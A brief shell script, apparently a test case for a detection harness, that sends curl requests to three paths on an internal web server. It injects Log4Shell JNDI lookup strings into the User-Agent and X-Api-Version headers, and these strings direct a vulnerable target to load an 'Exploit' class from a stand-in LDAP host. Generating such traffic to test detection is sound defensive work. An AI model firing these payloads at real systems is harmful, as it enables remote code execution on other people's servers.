#!/bin/sh
. /opt/case/case.sh

for path in / /login /solr/admin/cores; do
    curl -s -m 2 -o /dev/null -A '${jndi:ldap://203.0.113.10:1389/Exploit}' -H 'X-Api-Version: ${jndi:ldap://203.0.113.10:1389/a}' http://10.77.0.1:8080$path
done
took_place
